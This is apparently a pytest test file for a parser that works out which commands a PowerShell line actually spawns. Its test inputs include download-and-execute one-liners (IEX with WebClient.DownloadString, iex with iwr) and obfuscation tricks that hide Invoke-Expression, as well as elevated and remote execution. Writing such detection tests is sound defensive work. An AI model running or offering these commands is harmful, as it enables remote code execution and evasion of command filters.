"""Commands of PowerShell that run something themselves."""

import pytest

from spawngate.command.parse import read
from tests.command.shown import shown

CASES: list[tuple[str, list[str]]] = [
    ('$ExecutionContext.InvokeCommand.InvokeScript("rm x")', ["rm x in:invokescript via:eval"]),
    (
        "& ([scriptblock]::Create('rm x'))",
        ["rm x in:invokescript via:eval"],
    ),
    (
        'IEX (New-Object Net.WebClient).DownloadString("http://x")',
        [
            "New-Object Net.WebClient via:substitution +builtin",
            "<-0 code_language:powershell code:'(New-Object Net.WebClient).DownloadString(\"http://x\")'",
            "IEX '(New-Object Net.WebClient).DownloadString(\"http://x\")'[?@1] <-1 opaque:code,arguments",
        ],
    ),
    ('iex "$(iwr u)"', ["iwr u via:substitution", "iex '$(iwr u)'[?@0] <-0 opaque:code,arguments"]),
    ('iex ("r"+"m x")', ["rm x in:invoke-expression via:eval"]),
    ("w`get x; r`m y", ["wget x", "rm y"]),
    ('sal z iex; z "rm x"', ["sal z iex +builtin", "rm x in:invoke-expression via:eval"]),
    (
        'Start-Process powershell -ArgumentList "-c rm x" -Verb RunAs',
        ["rm x in:start-process/powershell via:script user:root +background"],
    ),
    ("Start-Process -FilePath notepad -Wait", ["notepad in:start-process via:wrapper +background"]),
    (
        "Invoke-Command -ComputerName h -ScriptBlock { rm x }",
        ["Invoke-Command -ComputerName h -ScriptBlock '{ rm x }' +builtin", "rm x via:function remote:h"],
    ),
    ("Start-Job { rm x }", ["Start-Job '{ rm x }' +builtin", "rm x via:function +background"]),
    ("ls | % { rm $_ }", ["ls", "% '{ rm $_ }' <-0", "rm $_[?@0] <-0 via:function +repeated opaque:arguments"]),
    ("function f($a) { rm $a }; f 1", ["rm 1 via:function"]),
    ("function f { f }; f", ["f via:function +repeated opaque:recursion"]),
    ("& { ls; rm x }", ["ls", "rm x"]),
    ("cd C:\\x; rm y", ["cd C:\\x +builtin", "rm y cwd:C:/x"]),
    ("rm -r -fo a, b", ["rm -r -fo a b"]),
    ("&(gcm *ke-Exp*) 'rm x'", ["gcm *ke-Exp*[*] via:substitution", "rm x in:invoke-expression via:eval"]),
    ("rm a,b > f 2>&1", ["rm a b >f 2>&1"]),
    ("Set-Variable c rm; & $c x", ["Set-Variable c rm +builtin", "rm x"]),
]


@pytest.mark.parametrize(("text", "spawns"), CASES, ids=[text for text, _ in CASES])
def test_spawns(text: str, spawns: list[str]) -> None:
    assert shown(read(text, "powershell")) == spawns


def test_arguments_that_are_read_again_and_again_are_counted() -> None:
    assert read("iex " * 900, "powershell").opaque == ("too-slow",)
    assert read("a " * 2_000, "powershell").opaque == ()
